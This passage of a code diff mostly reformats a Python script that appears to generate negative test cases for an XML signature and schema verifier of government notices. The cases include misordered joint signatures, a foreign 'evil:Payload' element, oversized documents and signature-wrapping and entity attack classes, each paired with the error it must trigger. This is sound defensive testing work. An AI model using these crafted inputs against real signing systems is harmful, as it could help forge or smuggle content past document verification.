+        "The joint notice signed twice by the lead department and never by gd.gov.gxt.",
+    )
     root = parse(joint_draft)
     sign_shape(root, pki.czt, department=CZT)
     sign_shape(root, pki.gxt, department=GXT, time="2026-11-20T07:00:00Z")
-    add("joint-second-signed-earlier", root, "SignatureError", "gd.gov.gxt claims to have signed before gd.gov.czt",
-        "The joint notice whose second signature claims a time before the first.")
+    add(
+        "joint-second-signed-earlier",
+        root,
+        "SignatureError",
+        "gd.gov.gxt claims to have signed before gd.gov.czt",
+        "The joint notice whose second signature claims a time before the first.",
+    )
     root = parse(joint_draft)
     sign_shape(root, pki.gxt, department=GXT)
     sign_shape(root, pki.czt, department=CZT, time=SECOND_SIGNED_AT.strftime(TIME))
-    add("joint-wrong-order", root, "SignatureError",
+    add(
+        "joint-wrong-order",
+        root,
+        "SignatureError",
         "signatures by gd.gov.gxt, gd.gov.czt do not follow the issuing departments gd.gov.czt, gd.gov.gxt",
-        "The joint notice signed by the second department first.")
+        "The joint notice signed by the second department first.",
+    )
 
 
 def schema_attacks(c: Context) -> None:
@@ -1196,14 +1759,23 @@ def schema_attacks(c: Context) -> None:
     root = fresh()
     first(root, GW + "Title").addnext(copy.deepcopy(first(root, GW + "Title")))
     sign_shape(root, office)
-    add("signed-two-titles", root, "DocumentError", "不符合公文格式规范：Unexpected child with tag 'gw:Title'",
-        "A document with two Title elements, correctly signed by gd.gov.office: the schema still refuses it.")
+    add(
+        "signed-two-titles",
+        root,
+        "DocumentError",
+        "不符合公文格式规范：Unexpected child with tag 'gw:Title'",
+        "A document with two Title elements, correctly signed by gd.gov.office: the schema still refuses it.",
+    )
     root = fresh()
     etree.SubElement(root, "{urn:attacker:evil}Payload", nsmap={"evil": EVIL_NS}).text = EVIL_PARAGRAPH
     sign_shape(root, office)
-    add("signed-foreign-element", root, "DocumentError",
+    add(
+        "signed-foreign-element",
+        root,
+        "DocumentError",
         "不符合公文格式规范：Unexpected child with tag 'evil:Payload'",
-        "A foreign element in the document, correctly signed by gd.gov.office: the schema refuses it.")
+        "A foreign element in the document, correctly signed by gd.gov.office: the schema refuses it.",
+    )
 
 
 SECTIONS = (
@@ -1274,16 +1846,32 @@ CLASS_BY_PREFIX = (
     (("doctype", "internal-entity", "external-", "billion-laughs", "utf16-hidden-doctype"), "dtd-entities"),
     (("comment-", "processing-instruction"), "xml-form"),
     (("depth-bomb",), "oversize-depth"),
-    (("xsw", "signature-inside-body", "signature-copy-inside-body", "signature-before-content",
-      "signature-in-the-middle", "content-after-signature", "signature-duplicated", "signature-block-duplicated",
-      "signing-element-outside-blocks", "signing-element-doubled"), "signature-wrapping"),
+    (
+        (
+            "xsw",
+            "signature-inside-body",
+            "signature-copy-inside-body",
+            "signature-before-content",
+            "signature-in-the-middle",
+            "content-after-signature",
+            "signature-duplicated",
+            "signature-block-duplicated",
+            "signing-element-outside-blocks",
+            "signing-element-doubled",
+        ),
+        "signature-wrapping",
+    ),
     (("gw-prefix-", "ds-prefix-", "default-namespace-"), "namespace-confusion"),
     (("reference-external-", "reference-xpointer-"), "xslt-xpath-external"),
     (("reference-id-",), "duplicate-ids"),
-    (("reference-", "two-references", "extra-element-in-signedinfo", "signedinfo-attribute", "transform"),
-     "references-transforms"),
-    (("c14n-", "digest-", "signature-ecdsa-sha1", "signature-rsa-", "signature-hmac-", "hmac-", "algorithm-"),
-     "algorithm-downgrade"),
+    (
+        ("reference-", "two-references", "extra-element-in-signedinfo", "signedinfo-attribute", "transform"),
+        "references-transforms",
+    ),
+    (
+        ("c14n-", "digest-", "signature-ecdsa-sha1", "signature-rsa-", "signature-hmac-", "hmac-", "algorithm-"),
+        "algorithm-downgrade",
+    ),
     (("signature-value-",), "signature-value"),
     (("keyinfo-",), "keyinfo"),
     (("cert-",), "certificates"),
@@ -1336,15 +1924,31 @@ def write_index(attacks: list[Attack]) -> None:
 
 # Inputs made at run time by runner.py: (name, class, error, message, description, generator).
 GENERATED = (
-    ("oversize-document", "oversize-depth", "XmlInputError", "more than the limit of 16777216",
-     "The signed notice padded with paragraphs to 16 MiB + 1 byte: refused for its size before parsing.",
-     "oversize-document"),
-    ("huge-text-node", "oversize-depth", "XmlInputError", "malformed XML",
-     "An 11 MB text node in the Title: over libxml2's limit for one text node (huge_tree is off).",
-     "huge-text-node"),
-    ("wide-document", "oversize-depth", "SignatureError", DIGEST_CHANGED,
-     "One million empty paragraphs inserted in the signed Body (8 MB): parsed within the limits, refused by the "
-     "digest.", "wide-document"),
+    (
+        "oversize-document",
+        "oversize-depth",
+        "XmlInputError",
+        "more than the limit of 16777216",
+        "The signed notice padded with paragraphs to 16 MiB + 1 byte: refused for its size before parsing.",
+        "oversize-document",
+    ),
+    (
+        "huge-text-node",
+        "oversize-depth",
+        "XmlInputError",
+        "malformed XML",
+        "An 11 MB text node in the Title: over libxml2's limit for one text node (huge_tree is off).",
+        "huge-text-node",
+    ),
+    (
+        "wide-document",
+        "oversize-depth",
+        "SignatureError",
+        DIGEST_CHANGED,
+        "One million empty paragraphs inserted in the signed Body (8 MB): parsed within the limits, refused by the "
+        "digest.",
+        "wide-document",
+    ),
 )
 
 
@@ -1433,8 +2037,10 @@ def main() -> int:
     write_index(good)
     print(f"{len(good)} attacks written to {HERE.relative_to(REPO)}/, index.toml updated")
     for attack, problem in bad:
-        print(f"NOT WRITTEN {attack.name}: expected {attack.error} containing {attack.message!r}; {problem}",
-              file=sys.stderr)
+        print(
+            f"NOT WRITTEN {attack.name}: expected {attack.error} containing {attack.message!r}; {problem}",
+            file=sys.stderr,
+        )
     # The exchange corpus is signed by this PKI: make it again.
     import make_exchange_attacks
 
